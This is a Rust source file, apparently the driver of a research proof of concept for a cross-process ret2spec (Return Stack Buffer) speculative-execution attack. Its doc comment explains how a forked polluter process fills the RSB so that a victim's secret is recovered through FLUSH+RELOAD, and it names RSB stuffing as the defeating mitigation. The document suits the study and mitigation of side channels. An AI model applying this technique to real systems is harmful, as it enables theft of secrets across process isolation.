use clap::Parser;
use ret2spec::*;

/// ret2spec, cross process.
///
/// Context
/// =======
///
/// The RSB is not necessarily cleared when the core switches between
/// processes, so one process can leave entries that another one consumes.
///
/// Test
/// ====
///
/// 1. Pin to a single core (`--core`, default 0) and fork. Both processes
///    run on that core and only interleave when one of them yields.
///
/// 2. The child (polluter) calls `always_false` recursively and yields at
///    the bottom, leaving the RSB full of return addresses into
///    `always_false` that are unreachable from the victim.
///
/// 3. The parent (victim) calls `always_true` recursively and yields at the
///    bottom. While unwinding, it flushes each frame's stack region before
///    returning, so its returns are predicted from the polluted RSB.
///
/// 4. The polluter exits once the victim is gone (`--liveness`).
///
/// Results
/// =======
///
/// The victim recovers its own secret through FLUSH+RELOAD even though it
/// never calls `always_false`.
///
/// NOTE: RSB stuffing on context switch (see `ret2spec-env`) defeats this.
///
#[derive(Parser)]
#[command(verbatim_doc_comment)]
struct Args {
    #[command(flatten)]
    leak: LeakArgs,
}

fn main() {
    env_logger::init();
    let args = Args::parse();
    let code = match run(&args.leak) {
        Ok(_) => EXIT_SUCCESS,
        Err(e) => {
            eprintln!("\n[!] {}", e);
            e.exit_code()
        },
    };
    std::process::exit(code);
}

fn run(args: &LeakArgs) -> Result<Vec<u8>> {
    let cfg = LeakConfig::from_cmdline_args(args, Variant::CrossProcess);
    let secret = args.secret_bytes();

    let coordinator = Coordinator::new(cfg)?;
    let min_lead = cfg.min_lead;
    let leaked = coordinator.run(&secret,
        || FlushReload::new(min_lead),
        &mut std::io::stdout().lock(),
    )?;
    if args.hexdump {
        println!("{}", pretty_hex::pretty_hex(&leaked));
    }
    Ok(leaked)
}
